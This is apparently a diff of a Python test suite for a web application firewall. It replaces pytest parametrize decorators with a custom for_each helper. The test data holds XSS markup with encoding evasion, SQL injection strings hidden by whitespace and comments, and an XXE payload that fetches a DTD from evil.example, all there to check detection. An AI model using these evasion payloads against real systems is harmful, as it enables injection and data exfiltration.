@@ -16,6 +16,7 @@ from fastgw.filters.policies.waf.normalization import normalized
 from fastgw.filters.policies.waf.rules import DEFAULT_RULES
 from fastgw.http.http1.parser import parse_request
 from fastgw.http.malformed import Malformed
+from tests.support.table import for_each
 from tests.support.waf import HARMLESS, Case, form, get, in_json, regression_cases
 
 GUIDE = Path(__file__).parents[4] / "docs/guides/waf.md"
@@ -72,7 +73,7 @@ def test_the_guide_says_how_many_attacks_are_refused() -> None:
     assert rates() in GUIDE.read_text(), f"expected in the guide:\n{rates()}"
 
 
-@pytest.mark.parametrize("number", range(len(HARMLESS)))
+@for_each("number", range(len(HARMLESS)))
 def test_ordinary_requests_pass(number: int) -> None:
     """Not a single rule matches them at level 1, not even one below the threshold."""
     assert matches(HARMLESS[number]) == []
@@ -154,11 +155,9 @@ def test_characters_with_these_bytes_pass(text: str) -> None:
         assert matches(request) == []
 
 
-@pytest.mark.parametrize(
-    "before", [b"", b"a", b"\xe9", b"\xc3\xa9", b"\xe6\x97\xa5", b"\xf0\x9f\x98\x80", b"\xbc", b"\xbe", b"\xff"]
-)
-@pytest.mark.parametrize(("opens", "closes"), [(b"\xbc", b"\xbe"), (b"\xc2\xbc", b"\xc2\xbe")])
-@pytest.mark.parametrize("element", [b"script", b"iframe src=x", b"/b", b"svg/x"])
+@for_each("before", [b"", b"a", b"\xe9", b"\xc3\xa9", b"\xe6\x97\xa5", b"\xf0\x9f\x98\x80", b"\xbc", b"\xbe", b"\xff"])
+@for_each(("opens", "closes"), [(b"\xbc", b"\xbe"), (b"\xc2\xbc", b"\xc2\xbe")])
+@for_each("element", [b"script", b"iframe src=x", b"/b", b"svg/x"])
 def test_markup_for_readers_of_us_ascii_is_refused(before: bytes, opens: bytes, closes: bytes, element: bytes) -> None:
     """Such readers leave out the highest bit. No character before it hides it."""
     text = before + opens + element + closes
@@ -166,10 +165,8 @@ def test_markup_for_readers_of_us_ascii_is_refused(before: bytes, opens: bytes, 
         assert 4110 in {match.rule.id for match in matches(request)}
 
 
-@pytest.mark.parametrize(
-    "space", [b"\xa0", b"\x85", b"\xc2\xa0", b"\xc2\x85", b"\xa0\xa0", b"&nbsp;", b"\xc2\xa0\xa0 "]
-)
-@pytest.mark.parametrize("before", [b"1'", b"\xe6\x97\xa5'", b"\xe9'"])
+@for_each("space", [b"\xa0", b"\x85", b"\xc2\xa0", b"\xc2\x85", b"\xa0\xa0", b"&nbsp;", b"\xc2\xa0\xa0 "])
+@for_each("before", [b"1'", b"\xe6\x97\xa5'", b"\xe9'"])
 def test_no_break_spaces_hide_nothing(space: bytes, before: bytes) -> None:
     text = before + space.join((b"", b"or", b"1=1")) + b" --"
     plain = before + b" or 1=1 --"
@@ -213,11 +210,11 @@ def _everywhere(text: str) -> tuple[bytes, ...]:
     return get(f"/?id={quoted}"), form(f"id={quoted}"), in_json({"id": text}), get("/", f"Cookie: id={quoted}")
 
 
-@pytest.mark.parametrize(
+@for_each(
     "space",
     ["\n", "\r\n", " \n\t", "\r", "\x0b", "\x0c", "\u3000", "\u2003", "#x\n", "--x y\n", " # a\n-- b\n\n", "/*x*/"],
 )
-@pytest.mark.parametrize(
+@for_each(
     "attack",
     [
         "1 union select 1,2,3",
@@ -284,8 +281,8 @@ def test_line_comments_of_programs_hide_nothing(attack: str) -> None:
         assert score_of(matches(request)) >= 5, request
 
 
-@pytest.mark.parametrize("space", ["\n", "\r\n", "\t", "\n" * 600])
-@pytest.mark.parametrize(
+@for_each("space", ["\n", "\r\n", "\t", "\n" * 600])
+@for_each(
     "document",
     [
         '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]><a/>',
@@ -300,7 +297,7 @@ def test_no_white_space_hides_a_document_type(document: str, space: str) -> None
     assert 3420 in {match.rule.id for match in matches(head + body)}
 
 
-@pytest.mark.parametrize(
+@for_each(
     "text",
     [
         "Use `a`\n- `b`: one\n- `c`: two\n* `d`\n+ `e`\n> `f`",
